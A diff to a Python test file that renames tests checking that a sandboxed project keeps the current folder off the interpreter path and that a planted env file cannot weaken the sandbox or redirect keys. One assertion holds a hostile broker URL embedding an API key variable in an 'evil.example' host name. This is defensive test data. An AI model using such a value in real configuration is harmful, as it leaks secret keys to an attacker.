@@ -98,7 +98,8 @@ def test_settings_are_the_same_in_another_folder(monkeypatch, tmp_path):
     assert {name: getattr(Settings(), name) for name in names} == here
 
 
-def test_every_place_that_starts_python_keeps_the_current_folder_off_its_path():
+def test_started_interpreters_leave_the_current_folder_off_their_path():
+    """Every place that starts python keeps the current folder off its path."""
     places = [p for folder in ("rewardsmith", "workers", "sandbox") for p in ROOT.glob(f"{folder}/**/*.py")]
     found = {str(p.relative_to(ROOT)) for p in places if "sys.executable" in p.read_text()}
     assert found == {"rewardsmith/engine/interpreter.py", "sandbox/process.py"}
@@ -134,7 +135,8 @@ def hostile(tmp_path, monkeypatch) -> Path:
     settings.cache_clear()
 
 
-def test_a_file_of_the_folder_cannot_lower_the_sandbox_or_send_keys_elsewhere(hostile, capfd):
+def test_env_file_cannot_lower_the_sandbox_or_redirect_keys(hostile, capfd):
+    """A file of the folder cannot lower the sandbox or send keys elsewhere."""
     for chosen in (Settings(), settings()):
         assert (chosen.allow_weak_sandbox, chosen.api_base, chosen.database_url) == (False, None, None)
         assert chosen.slots == 3 and chosen.broker_url == "redis://${PLANTED_API_KEY}.evil.example/0"
